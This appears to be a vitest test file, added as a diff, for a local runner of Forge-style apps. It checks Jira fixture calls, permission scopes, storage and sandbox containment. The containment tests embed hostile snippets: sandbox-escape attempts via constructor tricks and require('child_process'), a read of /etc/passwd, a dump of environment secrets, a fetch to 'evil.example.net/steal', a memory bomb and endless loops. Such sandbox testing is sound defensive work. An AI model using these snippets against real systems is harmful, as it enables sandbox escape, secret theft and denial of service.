@@ -1,0 +1,161 @@
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { sampleAppFolder } from '../project-root';
+import { sampleAppCopy, scratchFolder } from '../testing';
+import { AppRunner } from './app-runner';
+
+const runners: AppRunner[] = [];
+afterEach(() => runners.splice(0).forEach((runner) => runner.close()));
+function runnerFor(folder: string, dataDir: string | null = scratchFolder()) {
+  const runner = new AppRunner(folder, dataDir);
+  runners.push(runner);
+  return runner;
+}
+
+/** A small app with the real @forge packages (linked from the sample app) and the given manifest and source. */
+export function smallApp(manifest: string, source: string, fixtures: Record<string, unknown> = {}): string {
+  const folder = path.join(scratchFolder(), 'app');
+  mkdirSync(path.join(folder, 'src'), { recursive: true });
+  writeFileSync(path.join(folder, 'manifest.yml'), manifest);
+  writeFileSync(path.join(folder, 'src', 'index.js'), source);
+  writeFileSync(path.join(folder, 'package.json'), '{"name":"small-app"}');
+  symlinkSync(path.join(sampleAppFolder(), 'node_modules'), path.join(folder, 'node_modules'), 'dir');
+  for (const [file, body] of Object.entries(fixtures)) {
+    const target = path.join(folder, '.anvil', 'fixtures', file);
+    mkdirSync(path.dirname(target), { recursive: true });
+    writeFileSync(target, JSON.stringify({ status: 200, body }));
+  }
+  return folder;
+}
+
+describe('running the sample app', () => {
+  it('runs the issue panel resolver with the real @forge packages and answers Jira from fixtures', async () => {
+    const outcome = await runnerFor(sampleAppCopy()).run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
+    expect(outcome).toMatchObject({ status: 'ok', result: { key: 'DEMO-1', status: 'In Progress', labels: ['radar', 'release'], latestRelease: null } });
+    expect(outcome.calls[0]).toMatchObject({ kind: 'product', allowed: true, reason: 'GET /rest/api/3/issue/{issueIdOrKey} (scopes approved)' });
+  });
+
+  it('refuses the same call once the scope is removed, naming the scope', async () => {
+    const folder = sampleAppCopy();
+    const manifest = path.join(folder, 'manifest.yml');
+    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('    - read:jira-work\n', ''));
+    const outcome = await runnerFor(folder).run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
+    expect(outcome.status).toBe('error');
+    expect(outcome.error).toContain('Jira answered 401');
+    expect(outcome.calls[0]).toMatchObject({ allowed: false, reason: expect.stringContaining('needs the scope read:jira-work') });
+  });
+
+  it('keeps storage per environment: a web trigger in development is not seen in staging', async () => {
+    const runner = runnerFor(sampleAppCopy());
+    const posted = await runner.run({ functionKey: 'record-deployment', payload: { method: 'POST', body: '{"version":"2.0.1","environment":"ci"}' } });
+    expect(posted.result).toMatchObject({ statusCode: 204 });
+    const development = await runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
+    expect(development.result).toMatchObject({ lastDeployment: { version: '2.0.1', environment: 'ci' } });
+    const staging = await runner.run({ functionKey: 'getIssueRadar', environment: 'staging', resolverKeys: ['getIssueRadar'] });
+    expect(staging.result).toMatchObject({ lastDeployment: null });
+  });
+
+  it('picks up a change under src/ on the next invocation, and shows a build error with file and line', async () => {
+    const folder = sampleAppCopy();
+    const runner = runnerFor(folder);
+    const source = path.join(folder, 'src', 'index.js');
+    writeFileSync(source, readFileSync(source, 'utf8').replace("status: issue.fields.status?.name ?? 'Unknown',", "status: 'changed',"));
+    expect((await runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] })).result).toMatchObject({ status: 'changed' });
+    writeFileSync(source, 'export const handler = (;\n');
+    await expect(runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] })).rejects.toThrow(/src\/index\.js:1:\d+/);
+  });
+});
+
+const CONTAINED = `
+modules:
+  scheduledTrigger:
+    - key: tick
+      function: probe
+      interval: hour
+  function:
+    - key: probe
+      handler: index.probe
+      timeoutSeconds: 2
+permissions:
+  scopes:
+    - read:jira-work
+  external:
+    fetch:
+      backend:
+        - address: api.example.com
+app:
+  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000001
+  runtime:
+    name: nodejs22.x
+    memoryMB: 128
+`;
+
+describe('hostile app code is contained', () => {
+  async function probe(body: string, payload: unknown = {}) {
+    const folder = smallApp(CONTAINED, `export async function probe(payload) {\n${body}\n}\n`);
+    const runner = runnerFor(folder);
+    return { outcome: await runner.run({ functionKey: 'probe', payload }), runner };
+  }
+
+  it('state left in globals or module scope is not seen by the next invocation', async () => {
+    const folder = smallApp(CONTAINED, 'let count = 0;\nexport async function probe() { count += 1; globalThis.seen = (globalThis.seen ?? 0) + 1; Object.prototype.polluted = true; return { count, seen: globalThis.seen }; }\n');
+    const runner = runnerFor(folder);
+    expect((await runner.run({ functionKey: 'probe' })).result).toEqual({ count: 1, seen: 1 });
+    expect((await runner.run({ functionKey: 'probe' })).result).toEqual({ count: 1, seen: 1 });
+  });
+
+  it('sees none of Anvil\u2019s environment and no way to the host process', async () => {
+    process.env.ANVIL_TEST_SECRET = 'host-secret-value';
+    const { outcome } = await probe(`
+      const escapes = [];
+      for (const attempt of [() => this.constructor.constructor('return process')(), () => (function () {}).constructor('return process')(), () => require('child_process'), () => require('net'), () => require('fs').readFileSync('/etc/passwd', 'utf8')]) {
+        try { const value = attempt(); escapes.push(typeof value === 'object' && value !== null && 'pid' in value ? 'ESCAPED' : 'blocked'); } catch (error) { escapes.push('blocked: ' + String(error.message).slice(0, 60)); }
+      }
+      return { env: JSON.stringify(process.env), escapes };`);
+    delete process.env.ANVIL_TEST_SECRET;
+    expect(outcome.status).toBe('ok');
+    const result = outcome.result as { env: string; escapes: string[] };
+    expect(result.env).not.toContain('host-secret-value');
+    expect(result.escapes.every((entry) => entry.startsWith('blocked'))).toBe(true);
+  });
+
+  it('refuses fetch to an undeclared host, by name or by IP, with the platform\u2019s egress error', async () => {
+    const { outcome } = await probe(`
+      const a = await fetch('https://evil.example.net/steal');
+      const b = await fetch('https://93.184.216.34/x');
+      const c = await fetch('http://api.example.com/plain');
+      return [a.status, b.status, c.status, (await a.json()).code];`);
+    expect(outcome.result).toEqual([403, 403, 403, 'REQUEST_EGRESS_ALLOWLIST_ERR']);
+    expect(outcome.calls.map((call) => call.allowed)).toEqual([false, false, false]);
+    expect(outcome.calls[0]!.reason).toContain('add {address: evil.example.net}');
+  });
+
+  it('stops a synchronous endless loop and an endless microtask loop, and keeps serving', async () => {
+    const folder = smallApp(CONTAINED, 'export async function probe(payload) { if (payload.kind === "sync") { for (;;) {} } if (payload.kind === "micro") { const spin = () => Promise.resolve().then(spin); spin(); await new Promise(() => {}); } return "fine"; }\n');
+    const runner = runnerFor(folder);
+    const sync = await runner.run({ functionKey: 'probe', payload: { kind: 'sync' } });
+    expect(sync.status).toBe('timeout');
+    // A microtask chain also allocates: it ends at the time limit or the memory cap, whichever comes first.
+    const micro = await runner.run({ functionKey: 'probe', payload: { kind: 'micro' } });
+    expect(['timeout', 'crashed']).toContain(micro.status);
+    expect(micro.error).toMatch(/timed out|longer than its limit|out of memory/);
+    expect((await runner.run({ functionKey: 'probe', payload: { kind: 'none' } })).result).toBe('fine');
+  }, 30_000);
+
+  it('ends a memory bomb as out of memory, and the next invocation runs in a fresh process', async () => {
+    const folder = smallApp(CONTAINED, 'export async function probe(payload) { if (payload.bomb) { const hoard = []; for (;;) hoard.push(new Array(1e6).fill(hoard.length)); } return "alive"; }\n');
+    const runner = runnerFor(folder);
+    const bomb = await runner.run({ functionKey: 'probe', payload: { bomb: true } });
+    expect(bomb.status === 'crashed' || bomb.status === 'timeout').toBe(true);
+    if (bomb.status === 'crashed') expect(bomb.error).toContain('out of memory');
+    expect((await runner.run({ functionKey: 'probe', payload: {} })).result).toBe('alive');
+  }, 30_000);
+
+  it('caps a log flood and says how many lines were dropped', async () => {
+    const { outcome } = await probe('for (let i = 0; i < 20000; i++) console.log("line " + i); return "done";');
+    expect(outcome.result).toBe('done');
+    expect(outcome.logs.length).toBeLessThanOrEqual(501);
+    expect(outcome.logs[outcome.logs.length - 1]!.message).toMatch(/dropped|more log lines/);
+  }, 30_000);
+});
